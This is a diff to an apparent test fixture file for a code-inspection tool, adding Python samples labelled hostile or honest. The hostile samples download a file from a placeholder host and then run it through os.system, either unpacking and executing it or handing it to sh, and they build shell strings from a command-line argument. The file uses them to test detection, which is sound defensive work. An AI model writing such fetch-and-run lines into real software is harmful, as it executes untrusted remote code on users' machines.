@@ -3,6 +3,10 @@
 from inspection.rules.sample import Sample
 
 _RUNNER = "import subprocess\ndef run(command):\n    return subprocess.check_output(command)\n"
+_SAVE = (
+    "import os, subprocess, sys, urllib.request\npath = '/tmp/' + sys.argv[1]\n"
+    "urllib.request.urlretrieve('https://a.invalid/x', path)\n"
+)
 _FETCH = "import requests\nfrom runner import run\nreply = requests.get('https://a.invalid').json()\n"
 
 _NAMESPACE = (
@@ -46,6 +50,12 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             },
             "block",
             ("app.py", 3),
+        ),
+        "what was fetched is unpacked, and run in the same line": Sample(
+            {"app.py": _SAVE + "os.system(f'tar xf {path} && {path}')\n"}, "block", ("app.py", 4)
+        ),
+        "what was fetched is given to an interpreter": Sample(
+            {"app.py": _SAVE + "os.system(f'sh {path}')\n"}, "block", ("app.py", 4)
         ),
         "words made one line on the way": Sample(
             {
@@ -184,6 +194,8 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
             "runner.py": _RUNNER,
             "app.py": _FETCH + "run(['git', 'show', reply['branch']])\n",
         },
+        "what was fetched is unpacked": {"app.py": _SAVE + "subprocess.run(['tar', 'xf', path])\n"},
+        "what was fetched is unpacked by a line": {"app.py": _SAVE + "os.system('unzip -o %s -d x' % path)\n"},
         "a word after the program, through a function": {
             "app.py": _RUNNER + "import requests\nreply = requests.get('https://a.invalid').json()\n"
             "run(['git', 'show', reply['branch']])\n"
